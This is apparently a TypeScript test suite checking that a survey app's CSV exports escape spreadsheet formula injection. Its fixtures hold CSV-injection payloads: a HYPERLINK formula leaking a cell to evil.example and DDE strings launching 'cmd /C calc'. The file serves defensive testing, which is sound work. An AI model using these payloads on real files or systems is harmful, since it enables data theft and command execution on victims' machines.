import { beforeAll, describe, expect, it } from "vitest";
import Papa from "papaparse";
import { sharedWorld } from "./world";
import { SECRET, type MatrixContext } from "./matrix-context";
import { routeRequest } from "./request-context";
import { createInvitationList } from "@/lib/db/invitations";
import { savePage, startResponse } from "@/lib/db/responses";
import { newToken } from "@/lib/db/survey-tokens";

/** What a spreadsheet could run as a formula; plain numbers such as -3 stay numbers. */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/;

const HOSTILE = {
  comment: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  otherText: "@SUM(1+1)*cmd|' /C calc'!A0",
  title: "=cmd|' /C calc'!A0 — a paper title",
  labels: ["=1+2", "+1+2", "-2+3", "@mention", "\tTabbed", "\rReturn"],
};

function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

/**
 * Every CSV the app hands out, downloaded through its route as an admin after participants, importers and
 * admins put formula-like text into it: no cell may start a spreadsheet formula.
 */
describe("CSV exports are safe to open in spreadsheets (embedded)", () => {
  let db: Awaited<ReturnType<typeof sharedWorld>>["db"];
  let ctx: MatrixContext;
  let listId: string;

  beforeAll(async () => {
    ({ db, ctx } = await sharedWorld());
    // A participant who answers with formulas in free text and in an "Other" box.
    const started = await startResponse(db, { slug: ctx.slug, browserKey: newToken() });
    const pages: Array<[string, Record<string, string | string[]>]> = [
      ["background", { "q.position": "other", "q.position.other": HOSTILE.otherText, "q.work_years": "6", "q.dl_years": "3", "q.education": "master", "q.frameworks": ["tensorflow"] }],
      ["default_runs", ctx.pageFields("default_runs")],
      ["fixed_seed", ctx.pageFields("fixed_seed")],
      ["practice", ctx.pageFields("practice")],
      ["awareness", { ...ctx.pageFields("awareness"), "q.comments": HOSTILE.comment }],
    ];
    for (const [sectionId, fields] of pages) {
      const saved = await savePage(db, { slug: ctx.slug, resumeToken: started.resumeToken, sectionId, fields });
      if (!saved.ok) throw new Error(`${sectionId}: ${JSON.stringify(saved.fieldErrors)}`);
    }
    // A paper whose title came in from a hostile bibliography, in the coded sample.
    const sampled = await db.prisma.paper.findFirstOrThrow({ where: { studyId: ctx.ids.study, sampleItem: { isNot: null } } });
    await db.prisma.paper.update({ where: { id: sampled.id }, data: { title: HOSTILE.title } });
    listId = (await createInvitationList(db, ctx.users.admin, { questionnaireId: ctx.ids.questionnaire, name: "hostile", text: HOSTILE.labels.join("\n"), secret: SECRET })).listId;
    ctx.enter("admin");
  }, 240_000);

  const downloads: Array<[string, (ctx: MatrixContext) => Promise<Response>]> = [
    ["responses (codes)", async (c) => (await import("@/app/api/questionnaires/[id]/export/route")).GET(routeRequest(`/api/questionnaires/${c.ids.questionnaire}/export?format=csv`), { params: Promise.resolve({ id: c.ids.questionnaire }) })],
    ["responses (labels)", async (c) => (await import("@/app/api/questionnaires/[id]/export/route")).GET(routeRequest(`/api/questionnaires/${c.ids.questionnaire}/export?format=csv&values=labels&partial=1`), { params: Promise.resolve({ id: c.ids.questionnaire }) })],
    ["questionnaire codebook", async (c) => (await import("@/app/api/questionnaires/[id]/export/route")).GET(routeRequest(`/api/questionnaires/${c.ids.questionnaire}/export?format=codebook`), { params: Promise.resolve({ id: c.ids.questionnaire }) })],
    ["coded sample", async (c) => (await import("@/app/api/literature/export/route")).GET(routeRequest(`/api/literature/export?studyId=${c.ids.study}&format=csv`))],
    ["literature codebook", async (c) => (await import("@/app/api/literature/export/route")).GET(routeRequest(`/api/literature/export?studyId=${c.ids.study}&format=codebook-csv`))],
    ["study results", async (c) => (await import("@/app/api/studies/[slug]/results/route")).GET(routeRequest(`/api/studies/${c.studySlug}/results?format=csv`), { params: Promise.resolve({ slug: c.studySlug }) })],
  ];

  it.each(downloads)("%s: no cell starts a formula", async (_name, download) => {
    const response = await download(ctx);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    const cells = cellsOf(await response.text());
    expect(cells.length).toBeGreaterThan(3);
    const dangerous = cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell));
    expect(dangerous).toEqual([]);
  });

  it("the hostile texts are exported, as text (a leading apostrophe), not dropped", async () => {
    const exportRoute = await import("@/app/api/questionnaires/[id]/export/route");
    const responses = cellsOf(await (await exportRoute.GET(routeRequest(`/api/questionnaires/${ctx.ids.questionnaire}/export?format=csv`), { params: Promise.resolve({ id: ctx.ids.questionnaire }) })).text());
    expect(responses).toContain(`'${HOSTILE.comment}`);
    expect(responses).toContain(`'${HOSTILE.otherText}`);
    const literature = await import("@/app/api/literature/export/route");
    const sample = cellsOf(await (await literature.GET(routeRequest(`/api/literature/export?studyId=${ctx.ids.study}&format=csv`))).text());
    expect(sample).toContain(`'${HOSTILE.title}`);
    const invitations = await import("@/app/api/questionnaires/invitations/[listId]/route");
    const links = await invitations.GET(routeRequest(`/api/questionnaires/invitations/${listId}`), { params: Promise.resolve({ listId }) });
    const linkCells = cellsOf(await links.text());
    for (const label of HOSTILE.labels.filter((label) => !/^[\t\r]/.test(label))) expect(linkCells).toContain(`'${label}`);
    expect(linkCells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([]);
  });
});
